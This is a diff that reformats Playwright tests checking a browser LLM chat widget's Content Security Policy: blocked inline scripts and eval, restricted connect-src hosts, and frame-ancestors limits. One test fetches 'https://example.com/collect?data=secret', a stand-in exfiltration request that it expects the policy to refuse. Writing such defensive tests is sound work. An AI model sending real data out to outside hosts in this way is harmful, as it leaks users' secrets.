@@ -23,10 +23,20 @@ test.afterAll(async () => {
 
 /** fetch() from the page: 'ok' or the error's name. */
 function fetchFromPage(page: Page, url: string): Promise<string> {
-  return page.evaluate((u) => fetch(u).then(() => 'ok', (e: Error) => e.name), url);
+  return page.evaluate(
+    (u) =>
+      fetch(u).then(
+        () => 'ok',
+        (e: Error) => e.name,
+      ),
+    url,
+  );
 }
 
-test('an inline script is refused, and the watch reports it as a violation that would fail the test', async ({ page, csp }) => {
+test('an inline script is refused, and the watch reports it as a violation that would fail the test', async ({
+  page,
+  csp,
+}) => {
   await page.goto('./');
   await expect(page.getByTestId('gpu-status')).toHaveText(/WebGPU/);
   const ran = await page.evaluate(async () => {
@@ -38,7 +48,14 @@ test('an inline script is refused, and the watch reports it as a violation that 
   });
   expect(ran).toBe(false);
   // Unexpected until declared: this is what fails any other test.
-  await expect.poll(() => csp.unexpected().map((v) => v.text).join('\n')).toMatch(/script-src/);
+  await expect
+    .poll(() =>
+      csp
+        .unexpected()
+        .map((v) => v.text)
+        .join('\n'),
+    )
+    .toMatch(/script-src/);
   csp.expectViolation(/script-src|inline script/);
 });
 
@@ -52,21 +69,41 @@ test("eval is refused in the app's origin", async ({ page, csp }) => {
     return (window as unknown as { __evaled?: boolean }).__evaled === true;
   });
   expect(evaluated).toBe(false);
-  await expect.poll(() => csp.unexpected().map((v) => v.text).join('\n')).toMatch(/unsafe-eval|script-src/);
+  await expect
+    .poll(() =>
+      csp
+        .unexpected()
+        .map((v) => v.text)
+        .join('\n'),
+    )
+    .toMatch(/unsafe-eval|script-src/);
   csp.expectViolation(/unsafe-eval|script-src|evaluate a string/);
 });
 
-test('the page may reach the catalog model hosts but no other host (connect-src, narrowed at start)', async ({ page, context, csp }) => {
+test('the page may reach the catalog model hosts but no other host (connect-src, narrowed at start)', async ({
+  page,
+  context,
+  csp,
+}) => {
   await context.route(/^https:\/\/(huggingface\.co|raw\.githubusercontent\.com|example\.com)\//, (route) =>
     route.fulfill({ status: 200, body: '{}', headers: { 'access-control-allow-origin': '*' } }),
   );
   await page.goto('./');
   await expect(page.getByTestId('gpu-status')).toHaveText(/WebGPU/);
   expect(await fetchFromPage(page, 'https://huggingface.co/mlc-ai/x/resolve/main/mlc-chat-config.json')).toBe('ok');
-  expect(await fetchFromPage(page, 'https://raw.githubusercontent.com/mlc-ai/binary-mlc-llm-libs/main/x.wasm')).toBe('ok');
+  expect(await fetchFromPage(page, 'https://raw.githubusercontent.com/mlc-ai/binary-mlc-llm-libs/main/x.wasm')).toBe(
+    'ok',
+  );
   // The static policy allows any https: host (custom models); the runtime policy does not.
   expect(await fetchFromPage(page, 'https://example.com/collect?data=secret')).toBe('TypeError');
-  await expect.poll(() => csp.unexpected().map((v) => v.text).join('\n')).toContain('example.com');
+  await expect
+    .poll(() =>
+      csp
+        .unexpected()
+        .map((v) => v.text)
+        .join('\n'),
+    )
+    .toContain('example.com');
   csp.expectViolation(/example\.com/);
 });
 
@@ -82,13 +119,17 @@ test('a custom model from a new host is allowed after the reload the form offers
   const form = picker.getByTestId('custom-model-form');
   await form.getByLabel('Display name').fill('My model');
   await form.getByLabel('MLC weights URL').fill('https://models.example/my-model/resolve/main/');
-  await form.getByRole('textbox', { name: 'Library URL' }).fill('https://models.example/libs/my-model-v0_2_86-webgpu.wasm');
+  await form
+    .getByRole('textbox', { name: 'Library URL' })
+    .fill('https://models.example/libs/my-model-v0_2_86-webgpu.wasm');
   // The online check would be refused by this page's policy: it is postponed, not attempted.
   await form.getByLabel(/Check now/).check();
   await form.getByRole('button', { name: 'Save custom model' }).click();
   await expect(form.getByRole('status')).toContainText('Saved “My model”');
   await expect(form.getByRole('status')).toContainText('Not checked online yet');
-  await expect(form.getByTestId('custom-model-reload')).toContainText('Reload it to allow downloads from https://models.example');
+  await expect(form.getByTestId('custom-model-reload')).toContainText(
+    'Reload it to allow downloads from https://models.example',
+  );
 
   await form.getByRole('button', { name: 'Reload now' }).click();
   await expect(page.getByTestId('gpu-status')).toHaveText(/WebGPU/);
@@ -100,15 +141,26 @@ test('only the deploy-time origins can frame the widget', async ({ page, csp }) 
     window.__CALLAMA_FAKE__ = { loadMs: 50, rules: [{ match: 'hello', reply: 'Hello there.' }] };
   });
   // Allowed: a http://localhost page (the test build allows http://localhost:*).
-  await page.goto(`${hostPages.url('localhost')}/framer.html?allowed=${encodeURIComponent(hostPages.url('localhost'))}&widget=${encodeURIComponent(APP_ORIGIN)}`);
+  await page.goto(
+    `${hostPages.url('localhost')}/framer.html?allowed=${encodeURIComponent(hostPages.url('localhost'))}&widget=${encodeURIComponent(APP_ORIGIN)}`,
+  );
   const widget = page.frameLocator('iframe[title="Callama"]');
   await widget.getByTestId('embed-input').fill('hello');
   await widget.getByTestId('embed-input').press('Enter');
   await expect(widget.getByTestId('assistant-message').last()).toHaveText('Hello there.');
 
   // Refused: the same page from http://127.0.0.1, which is not on the list.
-  await page.goto(`${hostPages.url('127.0.0.1')}/framer.html?allowed=${encodeURIComponent(hostPages.url('127.0.0.1'))}&widget=${encodeURIComponent(APP_ORIGIN)}`);
-  await expect.poll(() => csp.unexpected().map((v) => v.text).join('\n')).toMatch(/frame-ancestors/);
+  await page.goto(
+    `${hostPages.url('127.0.0.1')}/framer.html?allowed=${encodeURIComponent(hostPages.url('127.0.0.1'))}&widget=${encodeURIComponent(APP_ORIGIN)}`,
+  );
+  await expect
+    .poll(() =>
+      csp
+        .unexpected()
+        .map((v) => v.text)
+        .join('\n'),
+    )
+    .toMatch(/frame-ancestors/);
   csp.expectViolation(/frame-ancestors/);
   await expect(page.frameLocator('iframe[title="Callama"]').getByTestId('embed-input')).toHaveCount(0);
 });
